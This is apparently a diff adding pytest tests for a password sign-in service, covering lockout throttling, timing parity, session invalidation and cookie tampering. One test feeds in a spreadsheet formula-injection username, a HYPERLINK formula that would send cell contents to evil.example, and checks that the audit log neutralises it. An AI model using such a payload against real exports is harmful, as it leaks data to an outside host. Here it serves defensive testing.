@@ -1,0 +1,177 @@
+"""Password sign-in outside Streamlit: throttling per username and address, timing, stored sessions."""
+
+from __future__ import annotations
+
+import os
+import statistics
+import threading
+import time
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from services.audit import AuditLog
+from services.auth.directory import UsersDirectory
+from services.auth.password import PasswordSignIn
+from services.auth.sessions import SignInSessions
+from services.auth.throttle import UNKNOWN_USER, LoginThrottle
+from services.auth.users import add_user
+from services.store import open_store
+
+COOKIE_KEY = "Vq3xZ8pL2mN7rT4wY9bC6dF1gH5jK0sA-_e"
+PASSWORD = "a long secret phrase"
+
+
+class Desk:
+    """The sign-in parts of one console process on a shared store."""
+
+    def __init__(self, url: str, users_file: Path, **throttle: int) -> None:
+        store = open_store(url)
+        self.audit = AuditLog(store)
+        self.sessions = SignInSessions(store, COOKIE_KEY, idle_timeout=timedelta(minutes=30),
+                                       lifetime=timedelta(hours=12))
+        self.directory = UsersDirectory(users_file, on_change=self.sessions.invalidate_all)
+        self.throttle = LoginThrottle(store, self.audit, **throttle)  # type: ignore[arg-type]
+        self.sign_in = PasswordSignIn(self.directory, self.throttle, self.sessions)
+
+
+@pytest.fixture
+def users_file(tmp_path: Path) -> Path:
+    path = tmp_path / "users.yaml"
+    add_user(path, "fay", "finance", PASSWORD)
+    add_user(path, "sam", "support", PASSWORD)
+    return path
+
+
+@pytest.fixture
+def url(tmp_path: Path) -> str:
+    return f"sqlite:///{tmp_path / 'store.sqlite3'}"
+
+
+def test_five_failures_lock_the_username_across_restarts(url: str, users_file: Path) -> None:
+    first = Desk(url, users_file)
+    refusals = [first.sign_in.attempt("fay", "wrong", "198.51.100.1").refusal for _ in range(5)]
+    assert refusals[:4] == ["Wrong username or password."] * 4 and "locked for 15 minutes" in str(refusals[4])
+    restarted = Desk(url, users_file)  # a new process on the same store
+    late = restarted.sign_in.attempt("fay", PASSWORD, "198.51.100.2")
+    assert late.token is None and "locked until" in str(late.refusal)
+    assert restarted.sign_in.attempt("sam", PASSWORD, "198.51.100.1").token  # another user is not locked
+    events = restarted.audit.events()
+    assert list(events.action) == ["login locked"] and list(events.user) == ["fay"]
+
+
+def test_a_success_clears_the_usernames_failures(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file)
+    for _ in range(4):
+        desk.sign_in.attempt("fay", "wrong", None)
+    assert desk.sign_in.attempt("fay", PASSWORD, None).token
+    assert desk.sign_in.attempt("fay", "wrong", None).refusal == "Wrong username or password."
+
+
+def test_an_address_guessing_at_many_usernames_is_locked(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file, max_address_failures=6)
+    for name in ("ann", "bob", "cid", "dee", "eve", "fay"):
+        desk.sign_in.attempt(name, "wrong", "203.0.113.7")
+    blocked = desk.sign_in.attempt("sam", PASSWORD, "203.0.113.7")  # right password, locked address
+    assert blocked.token is None and "locked" in str(blocked.refusal)
+    assert desk.sign_in.attempt("sam", PASSWORD, "203.0.113.8").token  # another address is fine
+
+
+def test_an_unknown_username_is_recorded_only_as_a_marker(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file)
+    typed = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    for _ in range(5):
+        desk.sign_in.attempt(typed, "wrong", None)
+    row = desk.audit.events().iloc[0]
+    assert row.user == UNKNOWN_USER and typed not in row.parameters and "hyperlinkhttpevil" in row.parameters
+
+
+def test_twenty_parallel_wrong_attempts_get_no_more_than_the_limit(url: str, users_file: Path) -> None:
+    desks = [Desk(url, users_file) for _ in range(4)]  # four "processes" on one store
+    checked: list[int] = []
+    original = desks[0].directory.burn_password_check
+
+    def attempt(index: int) -> None:
+        result = desks[index % 4].sign_in.attempt("fay", "wrong", None)
+        if result.refusal and "locked until" not in result.refusal:
+            checked.append(index)  # this attempt got to check a password
+
+    threads = [threading.Thread(target=attempt, args=(index,)) for index in range(20)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert original is not None and len(checked) == 5
+
+
+def test_unknown_and_known_usernames_take_as_long_to_refuse(url: str, tmp_path: Path) -> None:
+    path = tmp_path / "timing.yaml"
+    add_user(path, "fay", "finance", PASSWORD)  # the real work factor (12)
+    desk = Desk(url, path, max_failures=1000, max_address_failures=1000)
+
+    def seconds(username: str) -> float:
+        started = time.perf_counter()
+        desk.sign_in.attempt(username, "wrong password", None)
+        return time.perf_counter() - started
+
+    known = statistics.median(seconds("fay") for _ in range(5))
+    unknown = statistics.median(seconds(f"nobody{index}") for index in range(5))
+    assert abs(unknown - known) / known <= 0.20, (known, unknown)
+
+
+def test_logout_ends_every_session_of_that_user(url: str, users_file: Path) -> None:
+    laptop, phone = Desk(url, users_file), Desk(url, users_file)  # two console processes
+    first = laptop.sign_in.attempt("fay", PASSWORD, None).token
+    second = phone.sign_in.attempt("fay", PASSWORD, None).token
+    other = phone.sign_in.attempt("sam", PASSWORD, None).token
+    assert laptop.sessions.check(second, laptop.directory.current()).actor is not None
+    laptop.sessions.end_everywhere("fay")
+    ended = phone.sessions.check(second, phone.directory.current())
+    assert ended.actor is None and "signed out" in str(ended.ended_because)
+    assert laptop.sessions.check(first, laptop.directory.current()).actor is None
+    assert phone.sessions.check(other, phone.directory.current()).actor is not None  # sam is untouched
+    assert laptop.sign_in.attempt("fay", PASSWORD, None).token  # and fay can sign in again
+
+
+def test_a_changed_role_or_password_or_a_removed_user_ends_their_sessions(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file)
+    fay = desk.sign_in.attempt("fay", PASSWORD, None).token
+    sam = desk.sign_in.attempt("sam", PASSWORD, None).token
+    add_user(users_file, "fay", "admin", PASSWORD)  # a role change, no restart
+    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 1_000_000))
+    ended = desk.sessions.check(fay, desk.directory.current())
+    assert ended.actor is None and "account changed" in str(ended.ended_because)
+    assert desk.sessions.check(sam, desk.directory.current()).actor is not None
+    users_file.write_text(users_file.read_text().split("  sam:")[0])  # sam removed
+    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 2_000_000))
+    assert desk.sessions.check(sam, desk.directory.current()).actor is None
+    again = desk.sign_in.attempt("fay", PASSWORD, None).token
+    assert desk.sessions.check(again, desk.directory.current()).actor.role.value == "admin"  # type: ignore[union-attr]
+
+
+def test_idle_and_absolute_limits(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file)
+    token = desk.sign_in.attempt("fay", PASSWORD, None).token
+    desk.sessions.idle_timeout = timedelta(0)
+    time.sleep(0.01)
+    idle = desk.sessions.check(token, desk.directory.current())
+    assert idle.actor is None and "without activity" in str(idle.ended_because)
+    desk.sessions.idle_timeout, desk.sessions.lifetime = timedelta(minutes=30), timedelta(0)
+    assert "time limit" in str(desk.sessions.check(token, desk.directory.current()).ended_because)
+
+
+@pytest.mark.parametrize("tamper", [lambda token: token[:-1] + ("0" if token[-1] != "0" else "1"),
+                                    lambda token: token.split(".")[0], lambda token: "x." + token.split(".")[1],
+                                    lambda token: ""])
+def test_a_tampered_cookie_signs_nobody_in(url: str, users_file: Path, tamper) -> None:  # type: ignore[no-untyped-def]
+    desk = Desk(url, users_file)
+    token = desk.sign_in.attempt("fay", PASSWORD, None).token
+    assert desk.sessions.check(tamper(token), desk.directory.current()).actor is None
+
+
+def test_a_broken_users_file_keeps_the_last_good_users(url: str, users_file: Path) -> None:
+    desk = Desk(url, users_file)
+    users_file.write_text("users: [this is not a mapping")
+    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 3_000_000))
+    assert set(desk.directory.current()) == {"fay", "sam"}
